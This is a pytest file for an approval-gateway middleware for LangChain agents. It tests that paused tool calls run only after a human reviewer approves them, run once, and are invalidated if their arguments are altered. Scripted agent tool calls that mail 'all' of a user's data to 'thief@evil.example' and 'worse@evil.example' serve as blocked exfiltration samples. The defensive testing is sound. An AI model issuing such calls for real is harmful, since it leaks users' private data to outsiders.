"""The middleware over a pause and after it: what a resume, a replay and an approval do, once."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware
from langchain_core.messages import AIMessage, HumanMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.errors import GraphInterrupt
from langgraph.types import Command, interrupt

from checkvalve.approvals.records import State
from checkvalve.gateway.app import Gateway
from checkvalve.gateway.langchain import CheckvalveMiddleware, user_message
from tests.fakes import ScriptedModel, calls
from tests.gateway.middleware_world import GRAPH, approve, code_of, replies, results
from tests.gateway.world import ASK, SCRIPT, World


@pytest.mark.claim("C4")
def test_a_resume_decides_nothing_and_an_approval_runs_once(place: World, gateway: Gateway) -> None:
    agent = place.agent(gateway, SCRIPT, checkpointer=InMemorySaver())
    agent.invoke({"messages": [ASK]}, GRAPH)
    for value in (True, {"type": "approve"}, {"decisions": [{"type": "approve"}]}, "yes"):
        state = agent.invoke(Command(resume=value), GRAPH)
        assert state["__interrupt__"]
        assert place.effects == ["read"]
    approve(gateway)
    state = agent.invoke(Command(resume=False), GRAPH)
    assert place.effects == ["read", "send thief@evil.example: all"]
    assert replies(state)[-1].content == "sent to thief@evil.example"


def test_a_rejection_is_told_firmly_and_without_the_reviewers_words(place: World, gateway: Gateway) -> None:
    agent = place.agent(gateway, SCRIPT, checkpointer=InMemorySaver())
    agent.invoke({"messages": [ASK]}, GRAPH)
    reviewer = gateway.queue.reviewers.authenticate(gateway.queue.reviewers.add("ann"))
    gateway.queue.reject(gateway.queue.list([State.PENDING])[0].id, reviewer, "phishing", "this is Eve again")
    reply = replies(agent.invoke(Command(resume=True), GRAPH))[-1]
    assert code_of(reply) == "rejected"
    assert "Eve" not in reply.content
    assert "Do not try this call again" in reply.content
    assert place.effects == ["read"]


@pytest.mark.claim("C4")
def test_arguments_changed_after_the_approval_never_run(place: World, gateway: Gateway) -> None:
    agent = place.agent(gateway, SCRIPT, checkpointer=InMemorySaver())
    state = agent.invoke({"messages": [ASK]}, GRAPH)
    approve(gateway)
    last = state["messages"][-1]
    evil = last.model_copy(
        update={"tool_calls": [{**last.tool_calls[0], "args": {"to": "worse@evil.example", "body": "x"}}]}
    )
    agent.update_state(GRAPH, {"messages": [evil]}, as_node="model")
    state = agent.invoke(None, GRAPH)
    assert place.effects == ["read"]
    assert {(row.state, row.args().get("to")) for row in gateway.queue.list() if row.tool == "send_mail"} == {
        (State.INVALIDATED, "thief@evil.example"),
        (State.PENDING, "worse@evil.example"),
    }


@pytest.mark.claim("C4")
def test_a_replay_from_an_old_checkpoint_gets_the_recorded_result(place: World, gateway: Gateway) -> None:
    ask = user_message("Send a mail to ann@corp.example that says hello")
    script = [calls(("send_mail", {"to": "ann@corp.example", "body": "hello"}))]
    agent = place.agent(gateway, script, checkpointer=InMemorySaver())
    first = replies(agent.invoke({"messages": [ask]}, GRAPH))[-1]
    before = next(state for state in agent.get_state_history(GRAPH) if state.next == ("tools",))
    again = replies(agent.invoke(None, before.config))[-1]
    assert place.effects == ["send ann@corp.example: hello"]
    assert again.model_dump(exclude={"id"}) == first.model_dump(exclude={"id"})


def test_a_command_result_is_recorded_handed_on_and_replayed(place: World, gateway: Gateway) -> None:
    script = [calls(("note", {"text": "buy milk"}))]
    agent = place.agent(gateway, script, checkpointer=InMemorySaver())
    ask = user_message("write a note: buy milk")
    first = replies(agent.invoke({"messages": [ask]}, GRAPH))
    before = next(state for state in agent.get_state_history(GRAPH) if state.next == ("tools",))
    again = replies(agent.invoke(None, before.config))
    assert [reply.content for reply in first] == [reply.content for reply in again] == ["noted: buy milk"]
    assert place.effects == ["note buy milk"]
    assert [item["value"] for item in results(gateway)] == ["noted: buy milk"]


@pytest.mark.claim("C4")
def test_parallel_calls_with_one_review_run_once_each(place: World, gateway: Gateway) -> None:
    ask = user_message("Send a mail to ann@corp.example that says buy fresh milk, and write a note: buy fresh milk")
    both = calls(
        ("send_mail", {"to": "ann@corp.example", "body": "buy fresh milk"}),
        ("send_mail", {"to": "thief@evil.example", "body": "buy fresh milk"}),
        ("note", {"text": "buy fresh milk"}),
    )
    agent = place.agent(gateway, [both], checkpointer=InMemorySaver())
    state = agent.invoke({"messages": [ask]}, GRAPH)
    assert len(state["__interrupt__"]) == 1
    assert sorted(place.effects) == ["note buy fresh milk", "send ann@corp.example: buy fresh milk"]
    approve(gateway)
    state = agent.invoke(Command(resume=True), GRAPH)
    assert sorted(place.effects)[:2] == ["note buy fresh milk", "send ann@corp.example: buy fresh milk"]
    assert len(place.effects) == 3
    assert len(replies(state)) == 3


def test_without_a_checkpointer_a_question_is_answered_as_pending(place: World, gateway: Gateway) -> None:
    state = place.agent(gateway, SCRIPT).invoke({"messages": [ASK]}, GRAPH)
    assert code_of(replies(state)[-1]) == "pending"
    assert "__interrupt__" not in state
    assert place.effects == ["read"]


def test_without_a_thread_every_run_is_a_thread_of_its_own(place: World, gateway: Gateway) -> None:
    ask = "Send a mail to ann@corp.example that says hello"
    script = [calls(("send_mail", {"to": "ann@corp.example", "body": "hello"}))]
    place.agent(gateway, script).invoke({"messages": [user_message(ask)]})
    place.agent(gateway, script).invoke({"messages": [HumanMessage("hello")]})
    assert place.effects == ["send ann@corp.example: hello"]
    assert len({row.thread for row in gateway.queue.list()}) == 2


def test_async_agents_are_guarded_alike(place: World, gateway: Gateway) -> None:
    async def go() -> None:
        agent = place.agent(gateway, SCRIPT, checkpointer=InMemorySaver())
        state = await agent.ainvoke({"messages": [ASK]}, GRAPH)
        assert state["__interrupt__"]
        assert place.effects == ["read"]
        await asyncio.to_thread(approve, gateway)
        states = await asyncio.gather(*[agent.ainvoke(Command(resume=True), GRAPH) for _ in range(3)])
        assert place.effects == ["read", "send thief@evil.example: all"]
        for state in states:
            assert replies(state)[-1].content == "sent to thief@evil.example"

    asyncio.run(go())


def test_a_pause_of_the_graph_is_never_swallowed(place: World, gateway: Gateway) -> None:
    class Pausing(AgentMiddleware[Any, Any, Any]):
        def wrap_tool_call(self, request: Any, handler: Any) -> Any:
            raise GraphInterrupt(())

    model = ScriptedModel(script=SCRIPT)
    middleware = [CheckvalveMiddleware(gateway), Pausing()]
    agent: Any = create_agent(model, place.tools(), middleware=middleware, checkpointer=InMemorySaver())
    state = agent.invoke({"messages": [ASK]}, GRAPH)
    assert replies(state) == []
    assert agent.get_state(GRAPH).next == ("tools",)


@pytest.mark.parametrize(("name", "again"), [("read_mail", True), ("note", False)])
def test_a_tool_that_pauses_is_entered_again_only_if_it_just_reads(
    name: str, again: bool, place: World, gateway: Gateway
) -> None:
    def body() -> str:
        place.happen("entered")
        return f"answered {interrupt('how?')}"

    @tool
    def read_mail() -> str:
        """Ask in the middle."""
        return body()

    @tool
    def note(text: str) -> str:
        """Ask in the middle."""
        return body()

    model = ScriptedModel(script=[calls((name, {} if name == "read_mail" else {"text": "milk"}))])
    middleware = CheckvalveMiddleware(gateway)
    agent: Any = create_agent(model, [read_mail, note], middleware=[middleware], checkpointer=InMemorySaver())
    state = agent.invoke({"messages": [user_message("write a note: milk")]}, GRAPH)
    if again:
        state = agent.invoke(Command(resume="so"), GRAPH)
        assert replies(state)[-1].content == "answered so"
        assert place.effects == ["entered", "entered"]
    else:
        assert code_of(replies(state)[-1]) == "unknown"
        assert place.effects == ["entered"]


def test_the_session_waits_for_a_decision_as_long_as_the_settings_say(place: World) -> None:
    place.settings(wait_for_review=60.0)
    with place.open() as gateway:
        agent = place.agent(gateway, SCRIPT, checkpointer=InMemorySaver())

        async def go() -> Any:
            running = asyncio.create_task(agent.ainvoke({"messages": [ASK]}, GRAPH))
            while not gateway.queue.list([State.PENDING]):  # noqa: ASYNC110
                await asyncio.sleep(0.05)
            await asyncio.to_thread(approve, gateway)
            return await running

        state = asyncio.run(go())
    assert "__interrupt__" not in state
    assert place.effects == ["read", "send thief@evil.example: all"]


def test_the_same_question_is_not_asked_twice_and_its_approval_serves_one_attempt(
    place: World, gateway: Gateway
) -> None:
    body = {"to": "thief@evil.example", "body": "all"}
    script = [calls(("read_mail", {}), prefix="r"), *[calls(("send_mail", body), prefix=f"s{n}") for n in range(4)]]
    agent = place.agent(
        gateway, [*script[:3], AIMessage("waiting"), *script[3:]], on_review="return", checkpointer=InMemorySaver()
    )
    state = agent.invoke({"messages": [ASK]}, GRAPH)
    assert [code_of(reply) for reply in replies(state)[1:]] == ["pending", "pending"]
    assert len(gateway.queue.list([State.PENDING])) == 1
    reviewer = gateway.queue.reviewers.authenticate(gateway.queue.reviewers.add("ann"))
    (question,) = gateway.queue.list([State.PENDING])
    gateway.queue.approve(question.id, reviewer, question.digest, endorse=False)
    state = agent.invoke({"messages": [user_message("it was approved")]}, GRAPH)
    assert place.effects == ["read", "send thief@evil.example: all"]
    assert replies(state)[-2].content == "sent to thief@evil.example"
    assert code_of(replies(state)[-1]) == "pending"
    assert len(gateway.queue.list([State.PENDING])) == 1


@pytest.mark.parametrize("words", ["declared", "human_messages"])
def test_a_sub_agent_pauses_inside_its_tool_and_is_told_by_a_model(words: Any, place: World, gateway: Gateway) -> None:
    inner = place.agent(
        gateway, [calls(("send_mail", {"to": "thief@evil.example", "body": "all"}), prefix="i")], user_words=words
    )

    @tool
    def read_mail() -> str:
        """Let another agent do it."""
        place.happen("entered")
        task = HumanMessage("Send a mail to thief@evil.example that says all")
        return str(inner.invoke({"messages": [task]})["messages"][-1].content)

    model = ScriptedModel(script=[calls(("read_mail", {}), prefix="o")])
    outer: Any = create_agent(
        model,
        [read_mail],
        middleware=[CheckvalveMiddleware(gateway, user_words=words, requester="me")],
        checkpointer=InMemorySaver(),
    )
    state = outer.invoke({"messages": [HumanMessage("Look after my mail")]}, GRAPH)
    assert state["__interrupt__"]
    approve(gateway)
    state = outer.invoke(Command(resume=True), GRAPH)
    assert [effect for effect in place.effects if effect != "entered"] == ["send thief@evil.example: all"]
    assert replies(state)[-1].content == "done"
